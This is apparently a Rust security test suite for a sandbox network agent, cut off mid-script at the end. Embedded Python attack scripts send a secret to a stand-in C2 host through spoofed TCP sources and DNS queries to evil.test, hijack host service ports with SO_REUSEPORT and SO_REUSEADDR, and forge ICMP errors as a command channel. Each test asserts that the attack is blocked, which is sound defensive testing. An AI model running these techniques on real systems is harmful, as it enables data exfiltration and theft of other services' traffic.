//! A thirteenth attack review, run as the process inside the sandbox: each test performs
//! one attack from a sandbox (uid 65534, arbitrary Python) against the real agent and the
//! real kernel, with an outside helper process (root, in no hb cgroup) standing for the
//! attacker's command-and-control host on an address the policy never validated, and
//! asserts the secure outcome. A test marked `#[ignore = "open: …"]` is a break found and
//! not yet fixed: it fails against the current agent.
//!
//! Angle: the sandbox as a *server*, and as a holder of local ports in the node's shared
//! network namespace — what its listeners accept and who their replies may go to
//! (`cgroup_skb/ingress`, `sock_ops`, `HB_SOCK_PEER`), what it hears besides datagrams
//! (ICMP errors), and whether its ports can take connections meant for someone else.
//!
//! Everything lives in the test's own network namespace: addresses on `lo`, and the C2's
//! IPv6 network (2001:db8:66::/64) routed to a tun device there whose only reader is the
//! outside helper (IPv6 will not route a non-local prefix through `lo`; nothing leaves the
//! namespace). Found here: a same-sandbox client with a foreign source (`IPV6_FREEBIND`,
//! or a host's `ip_nonlocal_bind`) opened a TCP connection from the sandbox's listener to
//! the C2; the resolver answered a query from that source to the C2; `SO_REUSEPORT` let a
//! sandbox join a nobody host service's group; `SO_REUSEADDR` let a sandbox's UDP socket
//! take a host service's datagrams; on a `ip_nonlocal_bind` host the resolver answered a
//! query from a non-local source (bound, or named in an `IPV6_PKTINFO` control message),
//! and a ping socket bound to the C2's address had the echo reply sent there; ICMP errors
//! quoting a sandbox's datagram were an inbound channel through `IP_RECVERR`. All closed.

use std::{
    io::{BufRead as _, BufReader, Write as _},
    process::{Child, ChildStdin, ChildStdout, Command, Stdio},
};

use hb_tests::{TestEnv, private_netns, python, random_suffix, sandboxed::nobody_python};
use serde_json::Value;

/// The sandbox's own address (its listener), which its policy allows.
const OWN6: &str = "2001:db8::20";
const OWN4: &str = "203.0.113.20";
/// The attacker's command-and-control host: never allowed, never validated, not an
/// address of this host (IPv6: routed to `lo`, so a packet sent to it is captured there,
/// as on a node it would leave by the default route).
const C2_6: &str = "2001:db8:66::66";
const C2_NET6: &str = "2001:db8:66::/64";

fn config() -> String {
    r#"
[dns]
listen = "127.0.0.1:5300"
upstreams = ["127.0.0.1:5400"]

[egress]
exception_cidrs = ["203.0.113.0/24", "198.51.100.0/24", "2001:db8::/32"]

[[policy]]
name = "closed"
# The sandbox's own addresses, so it may connect to its own listener.
allow_cidrs = ["203.0.113.20/32", "2001:db8::20/128"]
"#
    .to_owned()
}

fn world(name: &str) -> TestEnv {
    world_with(name, "", &[])
}

/// A policy that accepts inbound connections.
const OPEN_POLICY: &str = r#"
[[policy]]
name = "open"
inbound = true
"#;

fn world_with(name: &str, extra: &str, addrs: &[&str]) -> TestEnv {
    let mut all = vec![OWN4, OWN6];
    all.extend_from_slice(addrs);
    private_netns(&all);
    let mut env = TestEnv::new(name, &format!("{}{extra}", config()));
    env.start_agent();
    env
}

/// An outside helper (root, in no hb cgroup), reading its first line (`ready`) before it
/// returns; its stdin closing makes it print its JSON summary and exit.
struct Outside {
    child: Child,
    stdin: Option<ChildStdin>,
    out: BufReader<ChildStdout>,
}

impl Outside {
    fn start(script: &str, args: &[&str]) -> Self {
        let mut o = Self::spawn(script, args);
        let line = o.line();
        assert_eq!(line, "ready", "outside helper said {line:?}");
        o
    }

    fn line(&mut self) -> String {
        let mut line = String::new();
        self.out.read_line(&mut line).expect("helper's line");
        line.trim().to_owned()
    }

    fn spawn(script: &str, args: &[&str]) -> Self {
        let mut child = Command::new(python())
            .arg("-c")
            .arg(script)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("outside helper");
        let stdin = child.stdin.take();
        let out = BufReader::new(child.stdout.take().expect("stdout"));
        Self { child, stdin, out }
    }

    fn finish(mut self) -> Value {
        if let Some(mut s) = self.stdin.take() {
            let _ = s.write_all(b"\n");
        }
        let mut line = String::new();
        self.out.read_line(&mut line).expect("helper's summary");
        let _ = self.child.wait();
        serde_json::from_str(line.trim()).unwrap_or_else(|e| panic!("helper said {line:?}: {e}"))
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn sandbox_json(env: &TestEnv, policy: &str, script: &str, args: &[&str]) -> Value {
    let out = nobody_python(env, policy, script, args);
    let text = String::from_utf8_lossy(&out.stdout);
    let last = text.lines().last().unwrap_or_default();
    serde_json::from_str(last).unwrap_or_else(|e| {
        panic!(
            "sandbox said {text:?} ({e}); stderr {}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// The C2, a host "out there": a tun device in the test's namespace (nothing leaves it:
/// the device is this helper's file descriptor) routes the C2's network to this helper,
/// which sees every packet sent there. It answers the first SYN-ACK from the sandbox's
/// address with the ACK that completes the handshake, as the C2 on a node's network
/// would, and records the payload of every later segment, and of every UDP datagram sent
/// to the C2's network from any address. Summary:
/// `{"synacks": N, "datagrams": N, "payload": "…"}`.
const PY_C2_TCP6: &str = r#"
import fcntl, json, os, select, socket, struct, subprocess, sys
own = socket.inet_pton(socket.AF_INET6, sys.argv[1])
net = sys.argv[2]
prefix = socket.inet_pton(socket.AF_INET6, net.split("/")[0])[:8]
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH", b"hbc2", 0x0001 | 0x1000))  # TUNSETIFF, IFF_TUN | IFF_NO_PI
subprocess.run(["ip", "link", "set", "hbc2", "up"], check=True)
subprocess.run(["ip", "-6", "route", "add", net, "dev", "hbc2"], check=True)
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def ack(src, dst, sport, dport, seq, acknum):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, acknum, 5 << 4, 0x10, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    os.write(tun, struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst + tcp)
synacks, datagrams, payload, acked, sources = 0, 0, b"", False, set()
print("ready", flush=True)
while True:
    r, _, _ = select.select([tun, sys.stdin], [], [])
    if sys.stdin in r:
        break
    pkt = os.read(tun, 65535)
    if len(pkt) < 48 or pkt[0] >> 4 != 6 or pkt[24:32] != prefix:
        continue
    src, dst = pkt[8:24], pkt[24:40]
    if pkt[6] == 17:
        datagrams += 1
        payload += pkt[48:]
        sources.add("[%s]:%d" % (socket.inet_ntop(socket.AF_INET6, src), struct.unpack("!H", pkt[40:42])[0]))
        continue
    if pkt[6] != 6 or src != own or len(pkt) < 60:
        continue
    sport, dport, seq, acknum, off, flags = struct.unpack("!HHIIBB", pkt[40:54])
    if flags & 0x12 == 0x12:
        synacks += 1
        if not acked:
            ack(dst, src, dport, sport, acknum, seq + 1)
            acked = True
    payload += pkt[40 + (off >> 4) * 4:]
print(json.dumps({"synacks": synacks, "datagrams": datagrams, "from": sorted(sources),
                  "payload": payload.decode("latin-1")}), flush=True)
"#;

/// In the sandbox: a listener on its own address; a client socket bound (`IPV6_FREEBIND`,
/// no privilege needed) to the C2's address, connecting to that listener — an allowed
/// destination. The listener's SYN-ACK goes to the client's source, the C2, which
/// completes the handshake; whatever the sandbox writes to the accepted connection goes
/// to the C2 too, unless hb refuses it.
const PY_SPOOFED_CLIENT: &str = r#"
import json, socket, sys, time
own, c2, secret = sys.argv[1], sys.argv[2], sys.argv[3]
res = {}
l = socket.socket(socket.AF_INET6); l.bind((own, 0)); l.listen(4)
port = l.getsockname()[1]
c = socket.socket(socket.AF_INET6)
try:
    if sys.argv[4] == "option":
        c.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    c.bind((c2, 0))
except OSError as e:
    res["bind"] = str(e)
    print(json.dumps(res)); sys.exit(0)
c.setblocking(False)
res["connect"] = c.connect_ex((own, port))
l.settimeout(6)
try:
    s, peer = l.accept()
    res["accepted"] = peer[0]
    s.sendall(secret.encode())
    time.sleep(1)
except OSError as e:
    res["accepted"] = str(e)
print(json.dumps(res))
"#;

/// How a sandbox's socket gets an address that is not the host's: `IPV6_FREEBIND` (no
/// privilege needed), or the host's `net.ipv6.ip_nonlocal_bind = 1` (set here in the
/// test's own namespace), which needs no option at all.
fn nonlocal(mode: &str) {
    if mode == "sysctl" {
        ip_sysctl("net.ipv6.ip_nonlocal_bind=1");
    }
}

fn ip_sysctl(kv: &str) {
    let out = Command::new("sysctl")
        .args(["-w", kv])
        .output()
        .expect("sysctl");
    assert!(
        out.status.success(),
        "sysctl {kv}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn spoofed_client(name: &str, mode: &str) {
    let env = world(name);
    nonlocal(mode);
    let secret = format!("exfil-{}", random_suffix());
    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
    let got = sandbox_json(
        &env,
        "closed",
        PY_SPOOFED_CLIENT,
        &[OWN6, C2_6, &secret, mode],
    );
    let seen = c2.finish();
    let payload = seen["payload"].as_str().unwrap_or_default();
    println!(
        "figure: {mode}: sandbox {got}; C2 saw {} SYN-ACK(s), secret {}",
        seen["synacks"],
        if payload.contains(&secret) {
            "received"
        } else {
            "not received"
        }
    );
    assert!(
        !payload.contains(&secret),
        "the sandbox's data reached the C2 {C2_6}: {seen}"
    );
    assert_eq!(
        seen["synacks"], 0,
        "the sandbox's listener answered the C2 {C2_6}: {seen}"
    );
    if mode == "option" {
        env.wait_event("IPV6_FREEBIND refused", |e| {
            e["hook"] == "setsockopt" && e["reason"] == "nonlocal_source"
        });
    } else {
        env.wait_event("the bind to the C2's address refused", |e| {
            e["hook"] == "bind6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
        });
    }
}

/// A sandbox that may accept no connection from outside makes its own listener admit a
/// "same sandbox" client whose source address is the C2's (an IPv6 socket may bind any
/// address with `IPV6_FREEBIND`, without privilege, and send from it): the listener's
/// SYN-ACK, then every byte written to the accepted connection, is addressed to the C2,
/// which the policy never allowed — and the egress hook passed them, because the ingress
/// path recorded the client's address as the sockets' admitted peer. The C2 completes the
/// handshake from the network. Now the option is refused (`nonlocal_source`).
#[test]
fn a_same_sandbox_client_with_a_foreign_source_does_not_open_a_connection_to_it() {
    spoofed_client("ar13-spoof", "option");
}

/// As above on a host that lets every socket bind a non-local address
/// (`net.ipv6.ip_nonlocal_bind = 1`, no option to refuse): a sandbox now binds only the
/// host's addresses (`cgroup/bind6`, reason `nonlocal_source`). Behind that, the
/// listener admits a same-sandbox client only from a local source (the address it
/// connected to, or loopback), so such a SYN would be dropped and reported too.
#[test]
fn a_same_sandbox_client_from_a_nonlocal_bind_host_does_not_open_a_connection_to_it() {
    spoofed_client("ar13-spoofsys", "sysctl");
}

/// In the sandbox: a UDP socket bound (`IPV6_FREEBIND`) to the C2's address asks a
/// nameserver for `SECRET.evil.test`; the kernel redirects it to hb's resolver, which
/// answers the source of the query — the C2 — with the question in its answer.
const PY_SPOOFED_QUERY: &str = r#"
import json, socket, struct, sys, time
c2, secret = sys.argv[1], sys.argv[2]
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
res = {}
try:
    if sys.argv[3] == "option":
        u.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    u.bind((c2, 0))
except OSError as e:
    res["bind"] = str(e)
    print(json.dumps(res)); sys.exit(0)
name = b"".join(bytes([len(x)]) + x.encode() for x in [secret, "evil", "test"]) + b"\0"
q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
try:
    for _ in range(3):
        u.sendto(q, ("2001:db8::53", 53))
    res["sent"] = True
except OSError as e:
    res["sent"] = str(e)
time.sleep(1.5)
print(json.dumps(res))
"#;

fn spoofed_query(name: &str, mode: &str) {
    let env = world(name);
    nonlocal(mode);
    let secret = format!("exfil-{}", random_suffix());
    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
    let got = sandbox_json(&env, "closed", PY_SPOOFED_QUERY, &[C2_6, &secret, mode]);
    let seen = c2.finish();
    let payload = seen["payload"].as_str().unwrap_or_default();
    println!(
        "figure: {mode}: sandbox {got}; C2 got {} datagram(s) from {}, secret {}",
        seen["datagrams"],
        seen["from"],
        if payload.contains(&secret) {
            "received"
        } else {
            "not received"
        }
    );
    assert!(
        !payload.contains(&secret),
        "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
    );
    if mode == "sysctl" {
        env.wait_event("the bind to the C2's address refused", |e| {
            e["hook"] == "bind6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
        });
    }
}

/// The same foreign source on a DNS query: the kernel redirects port 53 to hb's resolver
/// (`[::1]`), which answers whoever the query came from — the C2, an address the policy
/// never allowed, with the sandbox's chosen name echoed in the question section. Closed
/// by refusing `IPV6_FREEBIND` (`nonlocal_source`).
#[test]
fn a_dns_query_from_a_foreign_source_is_not_answered_to_it() {
    spoofed_query("ar13-dnsspoof", "option");
}

/// As above on a host with `net.ipv6.ip_nonlocal_bind = 1`, where no option is needed:
/// now a sandbox may bind only an address of the host (`cgroup/bind6` against
/// `HB_LOCAL_ADDRS`, which the agent keeps from rtnetlink; reason `nonlocal_source`).
#[test]
fn a_dns_query_from_a_nonlocal_bind_host_is_not_answered_to_its_source() {
    spoofed_query("ar13-dnsspoofsys", "sysctl");
}

/// In the sandbox: an unbound UDP socket sends a query to a nameserver (the kernel
/// redirects it to hb's resolver) with an `IPV6_PKTINFO` control message naming the C2
/// as the source — which a host with `net.ipv6.ip_nonlocal_bind = 1` accepts without
/// any option or bind.
const PY_PKTINFO_QUERY: &str = r#"
import json, socket, struct, sys, time
c2, secret = sys.argv[1], sys.argv[2]
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
res = {}
info = socket.inet_pton(socket.AF_INET6, c2) + struct.pack("@I", 0)
name = b"".join(bytes([len(x)]) + x.encode() for x in [secret, "evil", "test"]) + b"\0"
q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
try:
    for _ in range(3):
        u.sendmsg([q], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)], 0, ("2001:db8::53", 53))
    res["sent"] = True
except OSError as e:
    res["sent"] = str(e)
time.sleep(1.5)
print(json.dumps(res))
"#;

/// The source a control message names needs no bind: `cgroup/sendmsg6` refuses a
/// `msg_src_ip6` that is not the host's (reason `nonlocal_source`). (A connected
/// socket's control message makes the kernel run the sendmsg hook too: `udpv6_sendmsg`
/// treats a send with control data as unconnected.)
#[test]
fn a_dns_query_with_a_forged_pktinfo_source_is_not_answered_to_it() {
    let env = world("ar13-dnspktinfo");
    let mode = "cmsg";
    nonlocal("sysctl");
    let secret = format!("exfil-{}", random_suffix());
    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
    let got = sandbox_json(&env, "closed", PY_PKTINFO_QUERY, &[C2_6, &secret]);
    let seen = c2.finish();
    let payload = seen["payload"].as_str().unwrap_or_default();
    println!(
        "figure: pktinfo {mode}: sandbox {got}; C2 got {} datagram(s) from {}, secret {}",
        seen["datagrams"],
        seen["from"],
        if payload.contains(&secret) {
            "received"
        } else {
            "not received"
        }
    );
    assert!(
        !payload.contains(&secret),
        "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
    );
    env.wait_event("the forged source refused", |e| {
        e["hook"] == "sendmsg6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
    });
}

/// In the sandbox: binds UDP sockets to each address of argv (after `--retry`, retried
/// until the result changes from the first, for up to ~5 s: an address the host gained or
/// lost a moment ago). `{"ADDR": "ok" | errno name}`.
const PY_BIND_ADDRS: &str = r#"
import errno, json, socket, sys, time
def bind(addr):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind((addr, 0)); return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    finally:
        s.close()
res = {}
args = sys.argv[1:]
retry = False
for a in args:
    if a == "--retry":
        retry = True; continue
    res[a] = bind(a)
    if retry:
        want = "EPERM" if res[a] == "ok" else "ok"
        for _ in range(50):
            if res[a] == want: break
            time.sleep(0.1); res[a] = bind(a)
print(json.dumps(res))
"#;

/// In the sandbox: sets the sticky `IPV6_PKTINFO` (the source for a UDP socket's
/// datagrams) to each address of argv. `{"ADDR": "ok" | errno name}`.
const PY_STICKY_PKTINFO: &str = r#"
import errno, json, socket, struct, sys
res = {}
for a in sys.argv[1:]:
    u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    try:
        u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, socket.inet_pton(socket.AF_INET6, a) + struct.pack("@I", 0))
        res[a] = "ok"
    except OSError as e:
        res[a] = errno.errorcode.get(e.errno, str(e.errno))
    u.close()
print(json.dumps(res))
"#;

fn ip_cmd(args: &str) {
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("ip {args}"))
        .output()
        .expect("ip");
    assert!(
        out.status.success(),
        "ip {args}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// With `ip_nonlocal_bind` set for both families (the kernel would let any socket bind
/// any address), a sandbox binds the host's addresses — its own, loopback (all of
/// 127/8), the wildcard — and no other: the C2's is refused (EPERM), and so is a sticky
/// `IPV6_PKTINFO` naming it. `maps dump local_addrs` lists what the kernel holds. An address the
/// host gains after the agent started becomes bindable, and one it loses stops being
/// (the agent follows rtnetlink).
#[test]
fn a_sandbox_binds_the_hosts_addresses_and_no_other() {
    let env = world("ar13-binds");
    ip_sysctl("net.ipv6.ip_nonlocal_bind=1");
    ip_sysctl("net.ipv4.ip_nonlocal_bind=1");
    let first = sandbox_json(
        &env,
        "closed",
        PY_BIND_ADDRS,
        &[
            OWN4,
            OWN6,
            "127.0.0.53",
            "::1",
            "0.0.0.0",
            "::",
            "::ffff:127.0.0.1",
            C2_6,
            C2_4,
            "::ffff:198.51.100.66",
            "2001:db8::77",
        ],
    );
    println!("figure: binds before: {first}");
    for ok in [
        OWN4,
        OWN6,
        "127.0.0.53",
        "::1",
        "0.0.0.0",
        "::",
        "::ffff:127.0.0.1",
    ] {
        assert_eq!(first[ok], "ok", "{ok}: {first}");
    }
    for refused in [C2_6, C2_4, "::ffff:198.51.100.66", "2001:db8::77"] {
        assert_eq!(first[refused], "EPERM", "{refused}: {first}");
    }
    env.wait_event("the bind to the C2's address refused", |e| {
        e["hook"] == "bind4" && e["reason"] == "nonlocal_source" && e["dst"] == C2_4
    });
    let sticky = sandbox_json(&env, "closed", PY_STICKY_PKTINFO, &[C2_6, OWN6, "::"]);
    println!("figure: sticky IPV6_PKTINFO {sticky}");
    assert_eq!(sticky[C2_6], "EPERM", "{sticky}");
    assert_eq!(sticky[OWN6], "ok", "{sticky}");
    assert_eq!(sticky["::"], "ok", "{sticky}");
    env.wait_event("the sticky IPV6_PKTINFO naming the C2 refused", |e| {
        e["hook"] == "setsockopt" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
    });
    let dump = env.hb(&["maps", "dump", "local_addrs", "--json"]);
    let listed = String::from_utf8_lossy(&dump.stdout).to_string();
    println!("figure: HB_LOCAL_ADDRS {listed}");
    for want in [
        "\"203.0.113.20/32\"",
        "\"2001:db8::20/128\"",
        "\"127.0.0.0/8\"",
        "\"::1/128\"",
    ] {
        assert!(
            listed.contains(want),
            "{want} in maps dump local_addrs: {listed}"
        );
    }
    ip_cmd("-6 addr add 2001:db8::77/128 dev lo nodad");
    let added = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
    ip_cmd("-6 addr del 2001:db8::77/128 dev lo");
    let removed = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
    println!("figure: after the address was added {added}, after it was removed {removed}");
    assert_eq!(added["2001:db8::77"], "ok", "an added address: {added}");
    assert_eq!(
        removed["2001:db8::77"], "EPERM",
        "a removed address: {removed}"
    );
}

/// A host service (outside every sandbox) running as nobody, like many daemons that drop
/// to it, on a port shared with `SO_REUSEPORT` (as multi-process servers do). Prints its
/// port, then, when its stdin closes, `{"served": N}`.
const PY_HOST_SERVICE: &str = r#"
import json, os, select, socket, sys
host = sys.argv[1]
os.setgroups([]); os.setgid(65534); os.setuid(65534)
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
l.bind((host, 0)); l.listen(64)
print(l.getsockname()[1], flush=True)
served = 0
while True:
    r, _, _ = select.select([l, sys.stdin], [], [])
    if l in r:
        c, _ = l.accept(); c.settimeout(1)
        try:
            c.recv(100); c.sendall(b"ok"); served += 1
        except OSError:
            pass
        c.close()
    if sys.stdin in r:
        break
print(json.dumps({"served": served}), flush=True)
"#;

/// In the sandbox: joins the host service's `SO_REUSEPORT` group (same uid) and takes
/// what the kernel hands it for four seconds. `{"joined": …, "stolen": [what clients sent]}`.
const PY_REUSEPORT_THIEF: &str = r#"
import json, socket, sys, time
host, port = sys.argv[1], int(sys.argv[2])
res = {"stolen": []}
try:
    l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    l.bind((host, port)); l.listen(64)
    res["joined"] = True
except OSError as e:
    res["joined"] = str(e)
    l = None
print("ready", flush=True)
end = time.time() + 4
while l and time.time() < end:
    l.settimeout(max(0.05, end - time.time()))
    try:
        c, _ = l.accept(); c.settimeout(1)
        res["stolen"].append(c.recv(100).decode(errors="replace")); c.sendall(b"ok"); c.close()
    except OSError:
        pass
print(json.dumps(res), flush=True)
"#;

/// Outside clients: 24 connections (each from a new source port, so the reuseport hash
/// spreads them) that send `secret-I` and wait for `ok`. `{"answered": N}`.
const PY_CLIENTS: &str = r#"
import json, socket, sys
host, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3]
answered = 0
for i in range(24):
    try:
        s = socket.create_connection((host, port), timeout=0.4)
        s.sendall(("%s-%d" % (secret, i)).encode())
        if s.recv(10) == b"ok":
            answered += 1
        s.close()
    except OSError:
        pass
print(json.dumps({"answered": answered}))
"#;

/// Where the host service listens: an address of this host, outside every sandbox.
const SERVICE4: &str = "198.51.100.7";

/// Runs the reuseport thief in a sandbox of `policy` beside the host service while the
/// clients connect: (what the thief said, what the service served, what the clients got).
fn reuseport_round(env: &TestEnv, policy: &str) -> (Value, Value, Value) {
    let mut service = Outside::spawn(PY_HOST_SERVICE, &[SERVICE4]);
    let port = service.line();
    let mut thief = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
        env,
        policy,
        &[],
        &[python(), "-c", PY_REUSEPORT_THIEF, SERVICE4, &port],
    ));
    assert_eq!(thief.line(), "ready");
    let secret = format!("secret{}", random_suffix());
    let out = Command::new(python())
        .args(["-c", PY_CLIENTS, SERVICE4, &port, &secret])
        .output()
        .expect("clients");
    let clients: Value = serde_json::from_slice(&out.stdout).expect("clients' JSON");
    let said = thief.line();
    let stolen: Value =
        serde_json::from_str(&said).unwrap_or_else(|e| panic!("thief said {said:?}: {e}"));
    (stolen, service.finish(), clients)
}

/// A host service that runs as nobody and shares its port with `SO_REUSEPORT` lets any
/// socket of the same uid join its group; every sandbox runs as nobody too. A sandbox
/// that may accept connections (`inbound = true`) joins and receives the connections —
/// and the data — the host's clients meant for the service; one that may not
/// (`inbound = false`) joins and its listener drops them: the service's clients are cut.
#[test]
fn a_sandbox_cannot_join_a_host_services_reuseport_group() {
    let env = world_with("ar13-reuseport", OPEN_POLICY, &[SERVICE4]);
    for policy in ["closed", "open"] {
        let (thief, served, clients) = reuseport_round(&env, policy);
        let stolen = thief["stolen"].as_array().map_or(0, Vec::len);
        println!(
            "figure: policy {policy}: sandbox joined {}, took {stolen} of 24 connections; \
             the service served {}, the clients got {} answers",
            thief["joined"], served["served"], clients["answered"]
        );
        assert_eq!(
            stolen, 0,
            "{policy}: the sandbox took the service's clients: {thief}"
        );
        assert_eq!(
            clients["answered"], 24,
            "{policy}: the service's clients were cut: {clients}, service {served}, sandbox {thief}"
        );
    }
    env.wait_event("SO_REUSEPORT refused", |e| {
        e["hook"] == "setsockopt" && e["reason"] == "shared_port"
    });
}

/// A host UDP service (outside every sandbox, as root) on the wildcard address with
/// `SO_REUSEADDR`, as many UDP daemons set it. Prints its port, then, when its stdin
/// closes, `{"served": N}` (datagrams it received).
const PY_HOST_UDP_SERVICE: &str = r#"
import json, select, socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
u.bind(("0.0.0.0", 0))
print(u.getsockname()[1], flush=True)
served = 0
while True:
    r, _, _ = select.select([u, sys.stdin], [], [])
    if u in r:
        u.recvfrom(2048); served += 1
    if sys.stdin in r:
        break
print(json.dumps({"served": served}), flush=True)
"#;

/// In the sandbox: binds the service's port on the more specific address (the host's
/// address its clients send to) with `SO_REUSEADDR`, which UDP lets any uid do beside a
/// socket that set it too, and takes what arrives for three seconds.
const PY_UDP_THIEF: &str = r#"
import json, socket, sys, time
host, port = sys.argv[1], int(sys.argv[2])
res = {"stolen": []}
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind((host, port))
    res["bound"] = True
except OSError as e:
    res["bound"] = str(e)
    u = None
print("ready", flush=True)
end = time.time() + 3
while u and time.time() < end:
    u.settimeout(max(0.05, end - time.time()))
    try:
        res["stolen"].append(u.recvfrom(2048)[0].decode(errors="replace"))
    except OSError:
        pass
print(json.dumps(res), flush=True)
"#;

/// A host UDP service bound to the wildcard address with `SO_REUSEADDR` lets any socket
/// that sets it too bind the same port on a more specific address, and the kernel then
/// delivers the datagrams sent to that address to the more specific socket. A sandbox
/// that may receive (`inbound = true`) takes the service's datagrams; one that may not
/// takes them and its ingress drops them: the service hears nothing.
#[test]
fn a_sandbox_cannot_take_a_host_udp_services_datagrams_with_a_more_specific_bind() {
    let env = world_with("ar13-udpsteal", OPEN_POLICY, &[SERVICE4]);
    for policy in ["closed", "open"] {
        let mut service = Outside::spawn(PY_HOST_UDP_SERVICE, &[]);
        let port = service.line();
        let mut thief = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
            &env,
            policy,
            &[],
            &[python(), "-c", PY_UDP_THIEF, SERVICE4, &port],
        ));
        assert_eq!(thief.line(), "ready");
        let secret = format!("secret{}", random_suffix());
        let sock = std::net::UdpSocket::bind("0.0.0.0:0").expect("client");
        for i in 0..10 {
            sock.send_to(
                format!("{secret}-{i}").as_bytes(),
                (SERVICE4, port.parse::<u16>().expect("port")),
            )
            .expect("send");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let said = thief.line();
        let stolen: Value =
            serde_json::from_str(&said).unwrap_or_else(|e| panic!("thief said {said:?}: {e}"));
        let served = service.finish();
        let took = stolen["stolen"].as_array().map_or(0, Vec::len);
        println!(
            "figure: policy {policy}: sandbox bound {}, took {took} of 10 datagrams; the service got {}",
            stolen["bound"], served["served"]
        );
        assert_eq!(
            took, 0,
            "{policy}: the sandbox took the service's datagrams: {stolen}"
        );
        assert_eq!(
            served["served"], 10,
            "{policy}: the service's datagrams went elsewhere: sandbox {stolen}"
        );
    }
    env.wait_event("SO_REUSEADDR on UDP refused", |e| {
        e["hook"] == "setsockopt" && e["reason"] == "shared_port" && e["port"] == 0x0102
    });
}

/// The C2's IPv4 address: sends from `lo`, never allowed.
const C2_4: &str = "198.51.100.66";

/// The C2 (root, outside): sends ICMP "port unreachable" errors from its own address,
/// quoting a datagram from the sandbox's agreed port 40001 to its peer (port 40002)
/// whose payload is the command. Prints `ready`, sends when its stdin gives a line, then
/// `{"sent": N}`.
const PY_C2_ICMP: &str = r#"
import json, socket, struct, sys
own, peer, command = sys.argv[1], sys.argv[2], sys.argv[3].encode()
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
udp = struct.pack("!HHHH", 40001, 40002, 8 + len(command), 0) + command
inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                    socket.inet_aton(own), socket.inet_aton(peer))
inner = inner[:10] + struct.pack("!H", csum(inner)) + inner[12:] + udp
icmp = struct.pack("!BBHI", 3, 3, 0, 0) + inner
icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
r.bind((sys.argv[4], 0))
print("ready", flush=True)
sys.stdin.readline()
for _ in range(3):
    r.sendto(icmp, (own, 0))
print(json.dumps({"sent": 3}), flush=True)
"#;

/// In the sandbox: a UDP socket on the agreed port, connected to an allowed peer, with
/// `IP_RECVERR`; reads its error queue for three seconds. `{"heard": [payloads],
/// "from": [offenders]}`.
const PY_ERRQUEUE: &str = r#"
import json, socket, struct, sys, time
own = sys.argv[1]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((own, 40001))
s.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
s.connect((own, 40002))
print("ready", flush=True)
res = {"heard": [], "from": [], "recverr": s.getsockopt(socket.SOL_IP, 11)}
v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
v6.setsockopt(socket.IPPROTO_IPV6, 25, 1)  # IPV6_RECVERR
res["recverr6"] = v6.getsockopt(socket.IPPROTO_IPV6, 25)
t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
